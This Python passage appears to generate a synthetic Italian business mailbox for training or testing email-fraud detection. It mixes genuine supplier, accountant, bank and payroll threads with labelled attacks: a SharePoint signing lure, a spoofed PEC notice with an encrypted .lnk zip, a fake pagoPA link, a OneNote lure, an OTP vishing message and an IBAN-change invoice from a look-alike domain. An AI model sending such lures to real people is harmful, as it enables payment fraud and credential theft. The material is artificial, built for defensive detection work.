t7.add(alessio, "Ciao Giulia, ti mando in anticipo la fattura 41 dei terminali zip, la ricevete anche da SDI. È la prima con le coordinate nuove.",
       at(2025, 3, 10, 9, 14), GH, opt={"xoip": "2.236.14.87"},
       atts=[("Fattura_41_2025.pdf", pdf(["Minuterie Metalliche Gori - Fattura n. 41/2025 del 10/03/2025", "Terminali zip coordinati 2.000 pz",
                                          "Pagamento: bonifico 60 gg d.f.", f"IBAN: {IBAN_GORI_NEW} - BCC di Cambiano"], producer="LibreOffice 7.5",
                                         when="20250310090800"), "application/pdf")],
       scen=("G7", "supplier's first invoice with the new, already verified IBAN"))
t7.add(me, "Ricevuta, grazie. Elena la mette in pagamento con le scadenze di maggio.", at(2025, 3, 10, 9, 50))

# ================================================================ T8 Gori: 2025 supply contract; A13 server-hijack e-signature on third-party SharePoint
t8 = Thread("T8", alessio, "Accordo quadro 2025 fibbie e terminali")
t8.add(me, "Ciao Alessio,\n\nRoberto vorrebbe fissare per il 2025 un accordo quadro con voi per le fibbie Arno e i terminali: quantità minime annue, prezzi "
       "bloccati fino a dicembre e pagamento a 60 giorni. Ti mando una bozza la prossima settimana, intanto dimmi se in linea di massima vi va bene.\n\nGrazie",
       at(2025, 4, 7, 15, 10))
t8.add(alessio, "Ciao Giulia, per noi va benissimo. Sul prezzo bloccato dell'ottone però dobbiamo mettere una clausola se il metallo sale più del 10%, "
       "il resto ok.", at(2025, 4, 8, 8, 37), opt={"xoip": "2.236.14.87"})
t8.add(me, "Ecco la bozza, abbiamo aggiunto la clausola sull'ottone (art. 5). Dimmi se va bene così.", at(2025, 4, 15, 12, 2),
       atts=[("Bozza accordo quadro Gori 2025.pdf", pdf(["ACCORDO QUADRO DI FORNITURA 2025 - BOZZA", "tra Pelletteria Arnolfi S.r.l. e Minuterie Metalliche Gori",
                                                          "Art. 5 - Prezzi: bloccati al 31/12/2025 salvo variazione ottone > 10%", "Art. 7 - Resa: franco fabbrica"],
                                                         when="20250415115500", zone="+02'00'"), "application/pdf")])
t8.add(alessio, "Letto con mio padre, va bene. Solo all'art. 7 mettete 'franco vostro magazzino' invece di 'franco fabbrica', visto che le consegne le "
       "facciamo noi.", at(2025, 4, 22, 17, 48), opt={"xoip": "2.236.14.87"})
t8.add(me, "Fatto, versione definitiva in allegato. Se vi va bene la stampiamo in due copie e la firmiamo quando passi a consegnare.", at(2025, 4, 23, 9, 5),
       atts=[("Accordo quadro Gori 2025 def.pdf", pdf(["ACCORDO QUADRO DI FORNITURA 2025", "tra Pelletteria Arnolfi S.r.l. e Minuterie Metalliche Gori",
                                                        "Art. 7 - Resa: franco magazzino Pelletteria Arnolfi, Scandicci"], when="20250423090000", zone="+02'00'"), "application/pdf")])
t8.add(alessio, "Perfetto, passo martedì.", at(2025, 4, 23, 12, 10), opt={"xoip": "2.236.14.87"})
t8.add(me, "Ciao Alessio, oggi non ti abbiamo visto: passi la settimana prossima? Le due copie sono pronte sulla scrivania di Roberto.", at(2025, 4, 29, 17, 20))
t8.add(alessio, "Ciao Giulia,\n\nalla fine il contratto lo abbiamo fatto preparare per la firma digitale dal nostro consulente, così non dobbiamo "
       "stampare niente. Te l'ho caricato qui, devi solo entrare con la mail aziendale e mettere la firma:\n\n"
       f"https://studiobiagi-my.sharepoint.com/:b:/g/personal/segreteria_studiobiagi_example/E{alnum(21)}?e={alnum(6)}\n\n"
       "Se riesci entro giovedì, così lo chiudiamo.", at(2025, 5, 6, 15, 21), HJ("server-hijack"), opt={"xoip": "2.236.14.87"},
       scen=("A13", "supplier's real Virgilio webmail (same headers): the agreed paper contract suddenly 'for e-signature', link to a third party's "
                    "SharePoint asking to sign in with the company mailbox; quotes the real last message"))

# ================================================================ T9 Rinaldi: December tax payments; T12 PEC with the F24 (G1); A6 PEC look-alike spoof
t9 = Thread("T9", rinaldi, "Acconti di dicembre - documenti")
t9.add(rinaldi, "Buongiorno Giulia,\n\nti ricordo che entro il 16 dicembre scadono l'acconto IVA e la seconda rata degli acconti IRES e IRAP. Per "
       "calcolarli mi servono entro fine mese il registro IVA vendite di novembre (anche parziale), l'elenco delle fatture estere ricevute e "
       "l'estratto conto della carta aziendale. Le deleghe F24 ve le mando via PEC come sempre.\n\nCordiali saluti", at(2024, 11, 20, 12, 31))
t9.add(me, "Buongiorno Paolo,\n\nin allegato il registro IVA vendite di novembre e l'elenco delle fatture estere ricevute. L'estratto conto della carta "
       "te lo manda Elena domani.\n\nGrazie", at(2024, 11, 25, 16, 12),
       atts=[("Registro IVA vendite 11-2024.xlsx", xlsx([["Data", "Numero", "Cliente", "Imponibile", "IVA"], ["04/11/2024", "188/24", "Boutique Vannucci", 2140.0, 470.8],
                                                          ["12/11/2024", "191/24", "Distribution Rhone Maroquinerie", 18600.0, 0],
                                                          ["21/11/2024", "196/24", "Atelier Sevigne", 3920.0, 0]], "Giulia Ferri", "2024-11-25T15:58:00Z"), XLSX),
             ("Fatture estere ricevute 11-2024.pdf", pdf(["Elenco fatture estere ricevute - novembre 2024", "Fracassi Spedizioni - n/a (IT)", "Hudson & Pike - nota di debito 2024-117 USD 312,00"],
                                                         when="20241125160500"), "application/pdf")])
t9.add(rinaldi, "Grazie, ricevuto. Una domanda: la fattura a Hudson & Pike di ottobre è in dollari, il cambio lo avete preso dalla banca o dalla BCE? "
       "Mi serve per la registrazione.", at(2024, 11, 26, 9, 7))
t9.add(me, "Cambio BCE del giorno della fattura, 1,0812. Il controvalore incassato in banca è leggermente diverso, te lo manda Elena con l'estratto conto.",
       at(2024, 11, 26, 9, 40))
t9.add(rinaldi, "Perfetto. Le deleghe sono pronte, domani le ricevete via PEC. Totale da versare il 16: € 18.426,00 (acconto IVA € 7.912,00, IRES € 8.760,00, "
       "IRAP € 1.754,00). Addebito sul conto BTC tramite Entratel come sempre, voi non dovete fare niente.", at(2024, 12, 9, 17, 2))
t9.add(me, "Grazie Paolo, lo dico a Roberto.", at(2024, 12, 9, 17, 30))
f24_pec = pec_in(at(2024, 12, 10, 10, 15), "studiorinaldi@legalmail.example", "legalmail.example", "Invio modelli F24 - scadenza 16/12/2024",
                 "Spett.le Pelletteria Arnolfi S.r.l.,\n\nsi trasmettono in allegato le deleghe F24 con scadenza 16/12/2024 (acconto IVA, secondo acconto "
                 "IRES e IRAP) per complessivi € 18.426,00, che verranno addebitate tramite il servizio telematico dello Studio sul conto in essere presso "
                 "Banca Toscana Credito.\n\nCordiali saluti\nStudio Rinaldi & Associati",
                 [("F24_Pelletteria_Arnolfi_16-12-2024.pdf", pdf(["MODELLO F24 - Pelletteria Arnolfi S.r.l.", "6035 acconto IVA 7.912,00", "2002 IRES secondo acconto 8.760,00",
                                                                  "3813 IRAP secondo acconto 1.754,00", "Totale EUR 18.426,00 - scadenza 16/12/2024"], producer="Entratel F24",
                                                                 when="20241210100000"), "application/pdf")], GH,
                 ("G1", "PEC envelope from the commercialista's PEC (F24 models): 'Per conto di:' sender, postacert.eml, daticert.xml, smime.p7s, no reply headers"))
spoof = Pt("Per conto di: studiorinaldi@legalmail.example", "avvisi@ferramentabaldi.example", "phpmail", "pec-spoof")
emit(spoof, "phpmail", at(2024, 12, 19, 11, 2), [(None, me.email)], None, "POSTA CERTIFICATA: R: Invio modelli F24 - scadenza 16/12/2024", [f24_pec],
     "Messaggio di posta certificata\n\nIl giorno 19/12/2024 alle ore 11:02:41 (+0100) il messaggio\n\"Avviso bonario n. 0387/2024 - irregolarità versamento "
     "F24 del 16/12/2024\" è stato inviato da \"studiorinaldi@legalmail.example\"\nindirizzato a:\npelletteriaarnolfi@pec.example\n\n"
     "Il messaggio originale è incluso in allegato in formato protetto, ai sensi del Regolamento UE 2016/679 (GDPR).\n"
     "Password per l'apertura del documento: 0387\n\nIdentificativo messaggio: opec21012.20241219110241.41853.512.1.53@legalmail.example",
     html=None, no_html=True, opt={"php": "/home/ferramentabaldi/public_html/wp-content/plugins/wp-mail-smtp/x.php for 185.220.101.34", "user": "ferramentabaldi"},
     atts=[("postacert_0387_2024.zip", zip_encrypted([("Avviso_bonario_0387_2024.pdf.lnk", 2214)], (2024, 12, 19, 10, 58, 0)), "application/zip")],
     extra=[("X-Riferimento-Message-ID", f"<{hx(8)}.{hx(4)}.{int(at(2024, 12, 19, 11, 0).timestamp())}@legalmail.example>"), ("X-Trasporto", "posta-certificata"),
            ("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)")],
     label=HJ("display-name-spoof"), from_dom="ferramentabaldi.example",
     scen=("A6", "'Per conto di: studiorinaldi@legalmail.example' display name on a compromised shop's address, replies to the real PEC F24 envelope "
                 "with a fake PEC text, no S/MIME, encrypted zip (password in the text) holding a .pdf.lnk"))

# ================================================================ T10 Rinaldi: 2024 financial statements; A5 server-hijack fake pagoPA notice
t10 = Thread("T10", rinaldi, "Bilancio 2024 - documenti necessari")
t10.add(rinaldi, "Buongiorno Giulia,\n\niniziamo a preparare il bilancio 2024. Ti allego l'elenco dei documenti che ci servono (inventario di magazzino al "
        "31/12, clienti e fornitori aperti, contratti di leasing, ratei e risconti). Per l'inventario basta il file Excel che mi mandi ogni anno.\n\n"
        "Cordiali saluti", at(2025, 3, 4, 11, 44),
        atts=[("Checklist bilancio 2024.pdf", pdf(["Studio Rinaldi & Associati - Documenti per il bilancio 2024", "1. Inventario di magazzino al 31/12/2024",
                                                   "2. Scadenzario clienti/fornitori", "3. Contratti di leasing", "4. Ratei e risconti"], when="20250304113000"), "application/pdf")])
t10.add(me, "Ciao Paolo,\n\nin allegato l'inventario al 31/12/2024 e gli aperti clienti/fornitori. I contratti di leasing te li porta Roberto giovedì "
        "quando viene in studio.", at(2025, 3, 14, 15, 33),
        atts=[("Inventario 31-12-2024.xlsx", xlsx([["Codice", "Descrizione", "Um", "Quantita", "Costo medio", "Valore"],
                                                    ["PV-NE-12", "Vitello liscio nero 1,2", "pq", 2140, 4.81, 10293.4], ["PN-CI-10", "Nappa cipria 1,0", "pq", 0, 0, 0],
                                                    ["FB-AR25-OS", "Fibbia Arno 25 ottone sat.", "pz", 1320, 1.12, 1478.4]], "Giulia Ferri", "2025-03-14T14:20:00Z", "Inventario"), XLSX)])
t10.add(rinaldi, "Grazie. Nell'inventario le pelli sono valorizzate al costo medio o all'ultimo costo? L'anno scorso avevamo deciso il costo medio ponderato.",
        at(2025, 3, 17, 10, 2))
t10.add(me, "Costo medio ponderato, come l'anno scorso. Le rimanenze di pelle sono salite perché abbiamo anticipato gli acquisti della SS25.", at(2025, 3, 17, 10, 40))
t10.add(rinaldi, "Ok, tutto chiaro. La bozza di bilancio sarà pronta per metà aprile, poi la vediamo insieme a Roberto.", at(2025, 4, 2, 16, 20))
t10.add(me, "Perfetto, grazie. Roberto è disponibile il 17 o il 18 pomeriggio.", at(2025, 4, 2, 16, 55))
t10.add(rinaldi, "Facciamo il 17 alle 15 in studio.", at(2025, 4, 3, 8, 50))
t10.add(me, "Segnato, grazie.", at(2025, 4, 3, 9, 1))
t10_seg = t10.last; t10_seg_mid = t10.refs[-1]
pagopa = f"https://checkout-pagopa-avvisi.example/pagamento/avviso?cod=3010{digits(14)}&ente=80013{digits(6)}"
t10.add(rinaldi, "Buongiorno Giulia,\n\nti inoltro l'avviso di pagamento pagoPA arrivato in studio per la vostra posizione: è la sanzione per il ritardato "
        "versamento della seconda rata dell'acconto IRES, con il ravvedimento già calcolato. L'importo è di € 1.284,60 con scadenza 30/04; se lo pagate "
        "entro venerdì evitiamo ulteriori maggiorazioni. Si paga dal link nell'avviso in allegato, con carta o dal vostro home banking (circuito CBILL).\n\n"
        "Fammi sapere quando avete fatto così aggiorno la pratica.\n\nCordiali saluti", at(2025, 4, 9, 10, 47), HJ("server-hijack"),
        atts=[("Avviso_pagoPA_3010" + digits(14) + ".pdf", pdf(["AVVISO DI PAGAMENTO pagoPA", "Ente creditore: Agenzia delle Entrate - Riscossione",
                                                                "Destinatario: PELLETTERIA ARNOLFI S.R.L.", "Importo: EUR 1.284,60 - entro il 30/04/2025",
                                                                "Paga online: clicca qui"], producer="Microsoft® Word per Microsoft 365", when="20250409103100",
                                                               zone="+02'00'", uris=[pagopa], title="Avviso di pagamento"), "application/pdf")],
        scen=("A5", "commercialista's real M365 mailbox (same headers): fake pagoPA notice PDF linking to a look-alike checkout; the studio always pays "
                    "tax via F24/Entratel, quotes Giulia's last message"))

# ================================================================ T11 Chiara: payslips (monthly roots) + G29 protected PDFs; O2 reply to a PEC not in the mailbox
for (y, mo, d, hh, mm) in [(2024, 10, 28, 15, 10), (2024, 11, 27, 16, 2), (2025, 2, 26, 15, 40), (2025, 3, 27, 14, 55), (2025, 4, 28, 16, 20), (2025, 5, 27, 15, 5)]:
    lab = f"{IT_MON[mo - 1]} {y}"
    emit(chiara, "exo", at(y, mo, d, hh, mm), [(elena.name, elena.email)], [(me.name, me.email)], f"Cedolini {lab} - Pelletteria Arnolfi", [],
         f"Buongiorno Elena,\n\nin allegato i cedolini di {lab} e il prospetto riepilogativo per i bonifici degli stipendi. I file sono protetti con la "
         f"solita password.\n\nCordiali saluti" + chiara.sig,
         atts=[(f"Cedolini_{mo:02d}-{y}.pdf", pdf_protected([f"Cedolini {lab}"], f"{y}{mo:02d}{d:02d}{hh:02d}0000"), "application/pdf"),
               (f"Riepilogo_bonifici_{mo:02d}-{y}.pdf", pdf_protected([f"Riepilogo bonifici {lab}"], f"{y}{mo:02d}{d:02d}{hh:02d}0100"), "application/pdf")])
t11 = Thread("T11", chiara, "Cedolini dicembre 2024")
t11.add(me, "Ciao Chiara,\n\nElena è in ferie fino al 7: puoi mandare a me i cedolini di dicembre e il riepilogo per i bonifici? La password è sempre "
        "quella, giusto?\n\nGrazie", at(2024, 12, 23, 9, 14))
t11.add(chiara, "Ciao Giulia,\n\ncerto, eccoli. Sì, la password è sempre quella che vi ho dato per telefono a inizio anno, non la scrivo qui.\n\n"
        "Buone feste!", at(2024, 12, 23, 11, 2), GH,
        atts=[("Cedolini_12-2024.pdf", pdf_protected(["Cedolini dicembre 2024"], "20241223105500"), "application/pdf"),
              ("Riepilogo_bonifici_12-2024.pdf", pdf_protected(["Riepilogo bonifici dicembre 2024"], "20241223105600"), "application/pdf")],
        scen=("G29", "payroll assistant sends password-protected payslip PDFs on request; the password was given by phone, not in the mail"))
t11.add(me, "Ricevuti, grazie mille. Buone feste anche a te!", at(2024, 12, 23, 11, 30))
pec_hire_mid = f"<{hx(8)}.{hx(4)}.{int(at(2025, 2, 20, 10, 2).timestamp())}@pec.example>"
emit(chiara, "exo", at(2025, 2, 20, 15, 12), [(me.name, me.email)], None, "R: Comunicazione assunzione magazziniere - Pelletteria Arnolfi", [pec_hire_mid],
     "Ciao Giulia,\n\nho ricevuto la vostra PEC con i dati del nuovo magazziniere. Per la comunicazione UNILAV mi mancano ancora il livello di "
     "inquadramento (CCNL pelli e cuoio, pensavate al 3° livello?) e la copia del permesso di soggiorno, che dalla PEC non si apriva. Me li mandi "
     "qui sulla mail normale?\n\nGrazie" + chiara.sig +
     f"\n\nDa: pelletteriaarnolfi@pec.example <pelletteriaarnolfi@pec.example> \nInviato: giovedì 20 febbraio 2025 10:02\nA: studiorinaldi@legalmail.example\n"
     "Oggetto: Comunicazione assunzione magazziniere - Pelletteria Arnolfi\n\nSpett.le Studio Rinaldi,\ncon la presente vi comunichiamo l'assunzione "
     "a tempo indeterminato dal 03/03/2025 del Sig. Karim Benali come magazziniere. In allegato documento e codice fiscale.\n\nPelletteria Arnolfi S.r.l.",
     label=GO, topic="Comunicazione assunzione magazziniere - Pelletteria Arnolfi",
     scen=("O2", "payroll assistant replies from her ordinary mailbox to a PEC Giulia sent from the PEC box (parent not in this mailbox)"))
emit(me, "ol", at(2025, 2, 20, 16, 40), [(chiara.name, chiara.email)], None, "R: Comunicazione assunzione magazziniere - Pelletteria Arnolfi", [pec_hire_mid],
     "Ciao Chiara,\n\nsì, 3° livello. Il permesso di soggiorno te lo rimando qui in PDF.\n\nGrazie" + me.sig, folder="Sent",
     atts=[("Permesso_soggiorno_Benali.pdf", pdf(["Copia permesso di soggiorno - K. Benali"], producer="HP Scan", when="20250220163500"), "application/pdf")])

# ================================================================ A11 fake thread: payroll 'CU 2025' with a OneNote file
paghe = Pt("Ufficio Paghe", "paghe@studio-elaborazione-paghe.example", "phpmail", "fake-paghe")
emit(paghe, "olatk", at(2025, 1, 22, 9, 37), [(me.name, me.email)], None, "RE: Cedolini dicembre e CU 2025 - Pelletteria Arnolfi",
     [f"<{R.choice(('00', '01'))}{hx(2)}01db{hx(4)}${hx(8)}${hx(8)}$@{OWN}>"],
     "Buongiorno,\n\ncome da accordi vi inviamo il riepilogo dei cedolini di dicembre e delle Certificazioni Uniche 2025 da verificare prima dell'invio "
     "all'Agenzia.\nIl documento è in formato OneNote: per visualizzarlo fare doppio clic su \"Apri documento\" e confermare.\n\nCordiali saluti\n"
     "Ufficio Paghe", atts=[("Riepilogo_CU2025_cedolini_12-2024.one", onenote("Riepilogo CU 2025"), "application/octet-stream")],
     label=HJ("fake-thread"), opt={"ip": f"146.70.{R.randint(1, 250)}.{R.randint(2, 250)}", "cliehelo": "DESKTOP-PAGHE01"},
     scen=("A11", "stranger 'RE: Cedolini dicembre e CU 2025' (References to an id that is not in the mailbox, no quote) with a OneNote attachment"))

# ================================================================ T13 bank: credit lines renewal; G28 e-signature link on the bank's domain; A15 spoof
t13 = Thread("T13", luca, "Rinnovo affidamenti Pelletteria Arnolfi")
t13.add(luca, "Gentile Sig.ra Ferri,\n\ncome anticipato al Sig. Arnolfi, a dicembre scadono gli affidamenti per anticipo fatture export e lo scoperto di "
        "conto. Per il rinnovo ci occorrono la situazione contabile al 30/09/2024 e l'elenco dei principali clienti esteri con il fatturato 2024; il "
        "bilancio 2023 è già in nostro possesso.\nResto a disposizione.\n\nCordiali saluti", at(2024, 11, 12, 11, 5), sig=luca.sig + BTC_DISC)
t13.add(me, "Buongiorno Dott. Sarti,\n\nin allegato la situazione contabile al 30/09 e l'elenco dei clienti esteri (Hudson & Pike, Distribution Rhône "
        "Maroquinerie, Atelier Sévigné, Maison Ardoise). Per qualsiasi chiarimento sono a disposizione.\n\nCordiali saluti", at(2024, 11, 15, 14, 22),
        atts=[("Situazione contabile 30-09-2024.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Situazione contabile al 30/09/2024", "Ricavi EUR 2.184.300", "Utile ante imposte EUR 141.900"],
                                                         when="20241115141000"), "application/pdf"),
              ("Clienti esteri 2024.xlsx", xlsx([["Cliente", "Paese", "Fatturato 2024"], ["Hudson & Pike Leather Goods", "US", 612000], ["Distribution Rhone Maroquinerie", "FR", 288000],
                                                 ["Atelier Sevigne", "FR", 74000], ["Maison Ardoise", "FR", 51000]], "Giulia Ferri", "2024-11-15T13:50:00Z"), XLSX)])
t13.add(luca, "Grazie, ricevuto. Giro la pratica all'ufficio fidi, i tempi sono di circa tre settimane.", at(2024, 11, 18, 9, 12), sig=luca.sig + BTC_DISC)
t13.add(luca, "Gentile Sig.ra Ferri,\n\nla delibera è arrivata: affidamenti rinnovati alle stesse condizioni fino al 31/12/2025. Il contratto è disponibile "
        "per la firma digitale nella sezione Documenti di Inbank Impresa; in alternativa il Sig. Arnolfi può usare direttamente questo link, con le sue "
        f"credenziali Inbank:\nhttps://firma.bancatoscanacredito.example/fea/contratto?pratica=FID-2024-{digits(6)}\n\nCordiali saluti", at(2024, 12, 12, 15, 30), GH,
        sig=luca.sig + BTC_DISC, scen=("G28", "bank relationship manager sends the credit-line contract for e-signature on the bank's own portal (link)"))
t13.add(me, "Grazie, lo faccio firmare a Roberto oggi stesso.", at(2024, 12, 12, 15, 52))
t13.add(luca, "Firmato correttamente, grazie. Buone feste a tutti voi.", at(2024, 12, 13, 10, 3), sig=luca.sig + BTC_DISC)
t13.add(me, "Buongiorno Dott. Sarti,\n\nper l'ordine di Hudson & Pike di marzo (circa USD 86.000) vorremmo anticipare la fattura export come l'anno scorso. "
        "Procediamo con la solita distinta da Inbank?\n\nGrazie", at(2025, 3, 3, 9, 30))
t13.add(luca, "Buongiorno, sì, carichi pure la distinta con la copia della fattura e del documento di trasporto. Anticipo all'80% come da contratto.",
        at(2025, 3, 4, 10, 45), sig=luca.sig + BTC_DISC)
t13_real = t13.recs[-1]; t13_real_mid = t13.refs[-1]
t13.add(me, "Perfetto, grazie.", at(2025, 3, 4, 11, 0))
gluca = Pt("Luca Sarti", "luca.sarti.btc@gmail.com", "gmail", "gmail")
t13.add(gluca, "Buongiorno Sig.ra Ferri,\n\nle scrivo dal cellulare perché sono fuori sede. Il nostro ufficio sicurezza ha rilevato accessi anomali al vostro "
        "Inbank Impresa e per precauzione ha sospeso il dispositivo OTP dell'utenza amministrativa, quindi la distinta di anticipo è ferma. Per riattivarlo "
        "deve chiamare oggi il numero dedicato 800 559 137: un operatore le manderà un codice via SMS che dovrà leggergli per confermare l'identità.\n"
        "Non risponda a questa mail, la leggo solo a tratti.\n\nCordiali saluti\nLuca Sarti\nGestore Imprese - Filiale di Scandicci",
        at(2025, 3, 12, 8, 17), HJ("display-name-spoof"), sig=False, quote=False, client="gmail",
        scen=("A15", "bank manager's display name at a gmail.com address: OTP device suspended, call a number and read out the SMS code (MFA lure, no payload)"))

# ================================================================ T15 Fracassi: first NY air shipment; G23 zipped customs docs; G24 invoice with IBAN
awb1 = f"057-{digits(4)} {digits(4)}"
t15 = Thread("T14", valentina, "Offerta spedizione aerea New York - Hudson & Pike")
t15.add(me, "Buongiorno Valentina,\n\ndobbiamo spedire a New York l'ordine di Hudson & Pike: 14 colli, circa 380 kg lordi, 2,9 m³, merce pronta venerdì 11. "
        "Resa FCA Scandicci: il trasporto aereo lo paghiamo noi e lo rifatturiamo, lo sdoganamento in USA lo fa il loro broker (Kessler Customs Brokerage, JFK). "
        "Mi fai un'offerta per l'aereo su JFK?\n\nGrazie", at(2024, 10, 7, 10, 5))
t15.add(valentina, "Buongiorno Giulia,\n\nofferta in allegato: via Malpensa con partenza martedì 15 e arrivo JFK mercoledì 16. Ritiro a Scandicci venerdì "
        "pomeriggio con un nostro mezzo. Per la bolletta export ci servono fattura commerciale e packing list entro giovedì.\n\nCordiali saluti",
        at(2024, 10, 7, 15, 12), atts=[("Offerta_AIR_24-1102_Arnolfi.pdf", pdf(["Fracassi Spedizioni Internazionali - Offerta AIR 24/1102", "FCA Scandicci - JFK via MXP",
                                                                                "Tariffa EUR 3,85/kg tassabile min. 400 kg", "Pratica doganale export EUR 65,00"],
                                                                               when="20241007150500", zone="+02'00'"), "application/pdf")])
t15.add(me, "Confermo l'offerta. Fattura e packing list te li mando giovedì mattina.", at(2024, 10, 8, 9, 2))
t15.add(me, "Ecco fattura commerciale n. 171/24 e packing list. Il ritiro venerdì va bene dalle 14.", at(2024, 10, 10, 9, 15), quote=False,
        atts=[("Fattura 171-24 Hudson Pike.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Commercial invoice 171/24", "PO HP-24-0906 - FCA Scandicci", "USD 61.480,00"],
                                                     when="20241010090800", zone="+02'00'"), "application/pdf"),
              ("Packing list 171-24.pdf", pdf(["Packing list - invoice 171/24", "14 cartons - gross 381 kg - 2,9 m3"], when="20241010091000", zone="+02'00'"), "application/pdf")])
t15.add(valentina, "Ricevuti, tutto ok. Ritiro confermato venerdì tra le 14 e le 16.", at(2024, 10, 10, 11, 40))
t15.add(valentina, f"Giulia, la merce è partita stamattina da Malpensa, AWB {awb1}. Il broker è già stato avvisato con la pre-alert.", at(2024, 10, 15, 12, 3))
t15.add(me, "Ciao Valentina, per la nostra contabilità mi servono i documenti doganali dell'export (DAE/MRN e la notifica di uscita). Me li mandi quando ce li avete?",
        at(2024, 10, 22, 14, 50))
mrn = f"24IT{digits(5)}E{digits(7)}"
t15.add(valentina, "Eccoli, li ho messi in un unico zip: DAE, esito di uscita e AWB.", at(2024, 10, 23, 10, 12), GH,
        atts=[(f"Documenti_export_{mrn}.zip", zipfile_bytes([(f"DAE_{mrn}.pdf", pdf(["DOCUMENTO DI ACCOMPAGNAMENTO EXPORT", f"MRN {mrn}", "Esportatore: Pelletteria Arnolfi S.r.l."],
                                                                                      producer="AIDA - Agenzia Dogane", when="20241014163000", zone="+02'00'")),
                                                               (f"Esito_uscita_{mrn}.pdf", pdf(["Notifica di esito di uscita (IE599)", f"MRN {mrn}", "Uscita confermata 15/10/2024"],
                                                                                               producer="AIDA - Agenzia Dogane", when="20241016090000", zone="+02'00'")),
                                                               (f"AWB_{awb1.replace(' ', '')}.pdf", pdf([f"AIR WAYBILL {awb1}", "MXP - JFK", "14 pcs 381 kg"], when="20241015080000", zone="+02'00'"))],
                                                              (2024, 10, 23, 10, 8, 0)), "application/zip")],
        scen=("G23", "freight forwarder sends the zipped export customs documents Giulia asked for"))
t15.add(me, "Perfetto, grazie!", at(2024, 10, 23, 10, 30))
t15.add(fracamm, f"Buongiorno,\n\nin allegato la fattura n. 2024/1873 relativa alla spedizione aerea AWB {awb1} (trasporto FCA Scandicci - JFK e pratica "
        f"doganale export). Pagamento con bonifico a 30 gg data fattura sul nostro conto:\nIntesa Sanpaolo - IBAN {spaced(IBAN_FRAC)}\n\nCordiali saluti",
        at(2024, 10, 31, 12, 20), GH,
        atts=[("Fattura_2024_1873.pdf", pdf(["Fracassi Spedizioni Internazionali S.r.l. - Fattura 2024/1873", f"AWB {awb1} - FCA Scandicci/JFK", "Totale EUR 1.842,50",
                                             f"Bonifico 30 gg d.f. - IBAN {IBAN_FRAC}"], when="20241031121000"), "application/pdf")],
        scen=("G24", "forwarder's accounts office sends its invoice in the shipment thread with its usual (unchanged) IBAN in text and PDF"))
t15.add(me, "Grazie, giro alla nostra amministrazione.", at(2024, 11, 4, 9, 10), to=[(fracamm.name, fracamm.email)], cc=[(elena.name, elena.email)])

# ================================================================ T16 Fracassi: second NY shipment; A8 look-alike domain with invoice + LT IBAN
awb2 = f"057-{digits(4)} {digits(4)}"
t16 = Thread("T15", valentina, "Spedizione aerea JFK - PO HP-25-0122")
t16.add(me, "Ciao Valentina,\n\nnuova spedizione per Hudson & Pike, PO HP-25-0122: 22 colli, circa 610 kg, 4,6 m³, pronta giovedì 20 marzo. Stesse condizioni "
        "dell'altra volta (FCA Scandicci, broker Kessler a JFK). Mi confermi tariffa e partenza?\n\nGrazie", at(2025, 3, 14, 9, 40))
t16.add(valentina, "Ciao Giulia, tariffa invariata rispetto a ottobre; partenza da Malpensa sabato 22 con arrivo JFK domenica 23 (il broker lavora lunedì). "
        "Ritiro giovedì pomeriggio.", at(2025, 3, 14, 11, 25))
t16.add(me, "Confermato. Fattura 54/25 e packing list in allegato.", at(2025, 3, 18, 16, 5),
        atts=[("Fattura 54-25 Hudson Pike.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Commercial invoice 54/25", "PO HP-25-0122 - FCA Scandicci", "USD 68.940,00"],
                                                    when="20250318160000"), "application/pdf"),
              ("Packing list 54-25.pdf", pdf(["Packing list - invoice 54/25", "22 cartons - gross 612 kg - 4,6 m3"], when="20250318160100"), "application/pdf")])
t16.add(valentina, f"Partita, AWB {awb2}. Buon fine settimana!", at(2025, 3, 22, 13, 2))
t16.add(me, "Grazie, girato a Hudson.", at(2025, 3, 24, 8, 45))
t16.add(fracamm, f"Buongiorno,\n\nin allegato la fattura n. 2025/0398 per la spedizione AWB {awb2}. Pagamento con bonifico a 30 gg data fattura sul "
        f"nostro conto Intesa Sanpaolo, IBAN {spaced(IBAN_FRAC)}.\n\nCordiali saluti", at(2025, 4, 1, 11, 48),
        atts=[("Fattura_2025_0398.pdf", pdf(["Fracassi Spedizioni Internazionali S.r.l. - Fattura 2025/0398", f"AWB {awb2} - FCA Scandicci/JFK", "Totale EUR 2.716,90",
                                             f"Bonifico 30 gg d.f. - IBAN {IBAN_FRAC}"], when="20250401114000", zone="+02'00'"), "application/pdf")])
lkfr = Pt("Valentina Mori", "valentina.mori@fracassi-spedizloni.example", "olatk", "look-fracassi", valentina.sig)
t16.add(lkfr, f"Buongiorno Giulia,\n\nin allegato la fattura n. 2025/0412 relativa ai dazi e alle spese di sdoganamento anticipate per vostro conto a New "
        f"York sulla spedizione del 22/03 (AWB {awb2}): con i nuovi dazi americani il broker ci ha addebitato un'integrazione che, come da accordi con "
        "Hudson & Pike, resta a vostro carico.\n\nVi informo inoltre che il nostro conto Intesa è momentaneamente in verifica per l'adeguamento "
        "antiriciclaggio dopo il cambio della compagine sociale, quindi vi chiedo di effettuare questo pagamento, e quelli delle prossime settimane, sul "
        f"conto di appoggio indicato in fattura:\n\nBeneficiario: Fracassi Spedizioni Internazionali S.r.l.\nIBAN: {IBAN_FRAC_FAKE}\nBIC: REVOLT21\n\n"
        "L'importo è di € 7.845,30; vi chiederei gentilmente la disposizione entro venerdì 11 perché il corrispondente americano ci sollecita. "
        "Mandatemi pure la contabile a questo indirizzo.\n\nCordiali saluti", at(2025, 4, 8, 14, 36), HJ("lookalike-domain"),
        opt={"ip": f"185.107.{R.randint(40, 90)}.{R.randint(2, 250)}"},
        atts=[("Fattura_2025_0412.pdf", pdf(["Fracassi Spedizioni Internazionali S.r.l. - Fattura 2025/0412", f"Dazi e spese doganali anticipati USA - AWB {awb2}",
                                             "Totale EUR 7.845,30", f"Bonifico entro 11/04/2025 - IBAN {IBAN_FRAC_FAKE}"], producer="Microsoft® Word 2016",
                                            when="20250408142000", zone="+02'00'"), "application/pdf")],
        scen=("A8", "forwarder look-alike domain (fracassi-spedizloni): duties invoice on an FCA shipment, account 'in verification', LT IBAN, "
                    "copied signature, quotes the real thread"))

# ================================================================ T24 Hudson & Pike: FW24 reorder, revived after 5 months (G17); A9 look-alike later
t24 = Thread("T23", megan, "Holiday reorder - Siena tote / Lucca crossbody")
